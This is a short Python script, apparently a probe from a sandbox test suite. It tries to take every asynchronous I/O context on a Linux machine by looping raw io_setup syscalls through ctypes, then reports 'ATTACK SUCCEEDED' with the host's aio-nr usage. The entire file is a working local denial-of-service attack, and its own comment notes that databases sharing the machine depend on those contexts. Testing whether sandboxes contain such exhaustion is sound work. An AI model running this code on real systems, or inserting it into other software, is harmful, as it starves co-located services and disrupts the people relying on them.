"""Goal: take all contexts for asynchronous I/O that the whole machine has.

Without a sandbox: unsafe
"""

import ctypes
import os

IO_SETUP = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
libc = ctypes.CDLL(None, use_errno=True)


def attack():
    # Shared by everything that runs on the machine: see /proc/sys/fs/aio-nr and aio-max-nr. Databases need them.
    taken = 0
    for events in (8192, 1024, 128, 8):
        context = ctypes.c_ulong(0)
        while libc.syscall(IO_SETUP, events, ctypes.byref(context)) == 0:
            context = ctypes.c_ulong(0)
            taken += 1
    error = os.strerror(ctypes.get_errno())
    if taken:
        used = open("/proc/sys/fs/aio-nr").read().strip()
        limit = open("/proc/sys/fs/aio-max-nr").read().strip()
        raise RuntimeError(f"ATTACK SUCCEEDED: {taken} contexts, {used} of {limit} on this machine")
    raise RuntimeError(f"stopped by: {error}")


attack()
